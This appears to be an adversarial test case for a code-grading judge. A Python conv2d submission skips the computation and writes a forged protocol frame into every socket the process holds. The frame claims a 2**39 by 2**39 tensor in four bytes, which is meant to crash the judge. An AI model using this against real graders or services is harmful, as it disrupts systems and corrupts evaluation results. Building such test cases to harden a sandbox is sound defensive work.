# expect: crash
# attack: A reply holds a tensor of 2**39 times 2**39 elements in four bytes.
import json
import os
import stat
import struct


def sockets():
    """Descriptors of every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def inject(data):
    for descriptor in sockets():
        rest = data
        while rest:
            try:
                rest = rest[os.write(descriptor, rest) :]
            except BlockingIOError:
                continue  # the judge has not read the first part yet
            except OSError:
                break


def frame(message, sizes=()):
    header = json.dumps({"m": message, "b": list(sizes)}).encode()
    return struct.pack(">I", len(header)) + header


def conv2d(x, w):
    tensor = ["T", "float32", [2**39, 2**39], 0]
    inject(frame(["d", [["id", 2], ["value", tensor]]], [4]) + bytes(4))
    return x
